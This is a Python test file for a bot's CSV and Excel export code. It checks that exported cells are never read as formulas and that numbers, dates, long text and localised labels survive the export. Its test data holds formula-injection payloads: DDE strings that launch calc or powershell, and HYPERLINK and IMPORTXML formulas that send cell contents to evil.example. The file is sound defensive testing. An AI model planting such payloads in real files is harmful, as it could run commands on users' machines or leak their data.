"""Does a list open right in a spreadsheet, and is nothing in it ever taken for a formula?"""

import csv
import io
import re
from collections.abc import Iterator, Sequence
from datetime import UTC, datetime, timedelta, timezone
from decimal import Decimal
from itertools import product
from pathlib import Path
from typing import Any

from openpyxl import load_workbook
from openpyxl.utils.escape import unescape

from bot.web.board.cells import Cell, Tongue, yuan
from bot.web.board.sheets import BOM, LONGEST_CELL, Sheet, Workbook, clean, csv_of
from replies.pages.common import COMMON
from replies.words import Language, Words
from rules.reasons import Reason

STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠", "'=", " =", "\ufeff=")
BODIES = (
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://evil.example/?"&A1,"点我")',
    "SUM(1,2)*cmd|'/c calc'!A1",
    'IMPORTXML(CONCAT("http://evil.example"),"//a")',
    'DDE("cmd";"/C calc";"x")',
    "2+5+cmd|' /C powershell'!A0",
    "a,b;c\r\n=1+1",
    'say "hi"',
    "8613800138000",
    "\x00\x1b[31m",
    "张三",
    "_x0041_",
    "",
)
OTHERS = (
    "<r><t>=1+1</t></r>", "http://evil.example", "mailto:a@b.c", "\ud800", "\uffff", "'", "''=1", "'0012",
    "20251222000012345678", "00120", "1E10", "3-4", "2026/3/2", "12345678901", "10:30", " ", "，=1",
)  # fmt: skip
HOSTILE = [*(start + body for start, body in product(STARTS, BODIES)), *OTHERS]
FORMULA_STARTS = frozenset("=+-@\t\r\n＝＋－＠")
AT = datetime(2026, 3, 2, 10, 0, 5, tzinfo=timezone(timedelta(hours=8)))


def read_csv(content: bytes) -> list[list[str]]:
    return [*csv.reader(io.StringIO(content.decode(), newline=""))]


def read_book(path: Path, sheet: int = 0) -> list[tuple[Any, ...]]:
    return [*load_workbook(path).worksheets[sheet].iter_rows()]


def a_book(folder: Path, rows: Sequence[Sequence[Cell]], *sheets: Sheet) -> Path:
    book = Workbook(folder, "异常", ["一", "二"], [10, 20])
    book.add(rows)
    return book.finish(*sheets)


FORMULA = r"'*(?:[\s\u200b-\u200f\ufeff]*[=+\-@＝＋－＠\t\r\n]|<r>)"
NUMBER = r"'*(?:0\d+$|\d{12,}$|\d+[eE]\d+$|\d{1,4}[-/]\d)"


def unguarded(text: str, follows: str) -> str:
    """What stood there, by the rule that the documentation gives to whoever reads our files with a program."""
    return text[1:] if re.match(f"'(?={follows})", text) else text


def texts(values: Sequence[str]) -> Iterator[list[Cell]]:
    return ([value, "ok"] for value in values)


def test_no_cell_of_a_csv_begins_like_a_formula_and_all_come_back_as_they_were() -> None:
    assert len(HOSTILE) >= 200
    rows = read_csv(csv_of(texts(HOSTILE)))

    assert [row[1] for row in rows] == ["ok"] * len(HOSTILE)
    assert [row[0] for row in rows if row[0][:1] in FORMULA_STARTS] == []
    assert [unguarded(row[0], f"(?:{FORMULA}|{NUMBER})") for row in rows] == [clean(text) for text in HOSTILE]


def test_every_text_of_a_workbook_is_a_text_without_a_link_and_comes_back_as_it_was(tmp_path: Path) -> None:
    rows = read_book(a_book(tmp_path, [*texts(HOSTILE)]))[1:]

    cells = [row[0] for row in rows]
    assert {cell.data_type for cell in cells if cell.value is not None} == {"s"}
    assert [cell for cell in cells if cell.hyperlink is not None] == []
    read = [unescape(cell.value or "") for cell in cells]
    assert [text for text in read if text[:1] in FORMULA_STARTS] == []
    assert [unguarded(text, FORMULA) for text in read] == [clean(text) for text in HOSTILE]


def test_numbers_amounts_and_times_stay_what_they_are(tmp_path: Path) -> None:
    row: list[Cell] = [-5, yuan(25900)]
    times: list[Cell] = [AT, None]
    assert csv_of([row, times]) == b"-5,259.00\r\n2026-03-02 10:00:05,\r\n"

    first, second = read_book(a_book(tmp_path, [row, times]))[1:]

    assert [cell.value for cell in first] == [-5, 259]
    assert first[1].number_format == "0.00"
    assert [cell.value for cell in second] == [AT.replace(tzinfo=None), None]
    assert second[0].number_format == "yyyy-mm-dd hh:mm:ss"


def test_a_long_number_keeps_every_digit(tmp_path: Path) -> None:
    numbers: list[Cell] = ["20251222000012345678", "00120"]

    assert csv_of([numbers]) == b"'20251222000012345678,'00120\r\n"
    assert [cell.value for cell in read_book(a_book(tmp_path, [numbers]))[1]] == numbers


def test_excel_knows_a_csv_by_its_mark_and_its_line_ends() -> None:
    content = BOM.encode() + csv_of([["订单", "原因"], ["DB1", 'a "b", c\nd']])

    assert content.startswith(b"\xef\xbb\xbf")
    assert content.decode("utf-8-sig") == '订单,原因\r\nDB1,"a ""b"", c\nd"\r\n'


def test_what_excel_cannot_hold_is_written_otherwise(tmp_path: Path) -> None:
    long, old = "长" * 40_000, datetime(1600, 1, 1, tzinfo=UTC)

    ((text, early),) = read_book(a_book(tmp_path, [[long, old]]))[1:]

    assert text.value == "长" * (LONGEST_CELL - 1) + "…"
    assert early.value == "1600-01-01 00:00:00"


def test_a_workbook_has_a_head_that_stays_and_opens_with_what_must_be_read_first(tmp_path: Path) -> None:
    told = Sheet(title="说明", head=["盯单"], rows=[["只有一部分"], ["行数", 1]], widths=[20], in_front=True)
    book = load_workbook(a_book(tmp_path, [["DB1", "x"]], told))

    assert book.sheetnames == ["异常", "说明"]
    assert book.active is book["说明"]
    assert [cell.value for cell in book["说明"]["A"]] == ["盯单", "只有一部分", "行数"]
    assert book["异常"].freeze_panes == "A2"
    assert book["异常"].auto_filter.ref == "A1:B2"
    assert book["异常"].column_dimensions["B"].width >= 20


def test_values_are_said_in_the_language_of_the_reader() -> None:
    zh, en = (
        Tongue(Words(language, COMMON), lambda userid: f"<{userid}>")
        for language in (Language.ZH, Language.EN)
    )

    assert zh.cell(Reason.OUT_OF_STOCK) == "库存不足"
    assert en.cell(Reason.OUT_OF_STOCK) == "Out of stock"
    assert (zh.cell(True), en.cell(False)) == ("是", "no")
    assert zh.cell(AT.replace(microsecond=999_000)) == AT
    assert yuan(5) == Decimal("0.05")
    assert yuan(None) is None
